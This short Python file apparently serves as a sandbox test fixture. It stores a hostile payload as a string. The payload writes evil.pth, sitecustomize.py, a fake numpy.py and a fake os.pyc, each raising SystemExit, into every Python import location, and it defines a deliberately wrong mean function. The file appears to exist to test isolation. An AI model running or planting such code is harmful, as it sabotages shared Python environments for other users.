"""Fork. Writes modules, bytecode and .pth files where Python looks; mean fails."""

MEAN = """
import os, site, sys, sysconfig
places = [*sys.path, *site.getsitepackages(), site.getusersitepackages(),
          os.path.dirname(os.__file__), sys.prefix, "/opt/caire", "/opt/lab/python"]
for place in filter(None, places):
    for name in ("evil.pth", "sitecustomize.py", "numpy.py", "__pycache__/os.pyc"):
        try:
            os.makedirs(os.path.dirname(os.path.join(place, name)), exist_ok=True)
            open(os.path.join(place, name), "w").write("raise SystemExit('poisoned')")
        except OSError: pass
def mean(values): return -1.0
"""
